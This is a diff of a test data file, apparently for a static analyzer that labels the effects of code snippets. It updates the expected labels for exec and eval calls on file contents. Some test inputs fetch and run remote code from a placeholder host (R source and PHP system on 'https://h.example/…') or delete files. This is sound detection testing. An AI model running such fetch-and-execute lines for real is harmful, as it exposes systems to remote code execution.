@@ -373,7 +373,7 @@ EFFECTS = [
         'source("https://h.example/a.R")',
         "fetch https://h.example/a.R, eval https://h.example/a.R",
     ),
-    (PHP, 'eval(file_get_contents("a.php"));', "read a.php"),
+    (PHP, 'eval(file_get_contents("a.php"));', "load ?, read a.php"),
     (
         PHP,
         'system(file_get_contents("https://h.example/a"));',
@@ -454,11 +454,11 @@ EVALUATED = [
     (PYTHON, "exec(code)", "eval code?"),
     (PYTHON, "exec('x = 1')", ""),
     (PYTHON, "exec(compile('os.remove(1)', 'f', 'exec'))", "delete 1"),
-    (PYTHON, "exec(compile(open('x.py').read(), 'x.py', 'exec'))", "read x.py"),
+    (PYTHON, "exec(compile(open('x.py').read(), 'x.py', 'exec'))", "load ?, read x.py"),
     (PYTHON, "exec(compile(x, 'f', 'exec'))", "eval compile(x, 'f', 'exec')?"),
     (PYTHON, "exec()", ""),
-    (PYTHON, "exec(open('x.py').read())", "read x.py"),
-    (PYTHON, "exec(Path('x.py').read_text())", "read x.py"),
+    (PYTHON, "exec(open('x.py').read())", "load ?, read x.py"),
+    (PYTHON, "exec(Path('x.py').read_text())", "load ?, read x.py"),
     (PYTHON, "model.eval(); df.eval('a')", ""),
     (
         PYTHON,
